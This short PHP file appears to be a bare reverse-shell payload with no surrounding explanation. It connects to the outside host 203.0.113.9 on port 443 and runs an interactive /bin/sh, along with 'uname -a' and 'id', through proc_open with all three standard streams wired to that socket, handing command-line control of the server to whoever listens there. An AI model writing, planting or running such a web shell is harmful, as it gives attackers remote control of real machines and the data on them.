<?php
$shell = 'uname -a; id; /bin/sh -i';
$sock = fsockopen('203.0.113.9', 443, $errno, $errstr, 30);
$process = proc_open($shell, array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);
?>
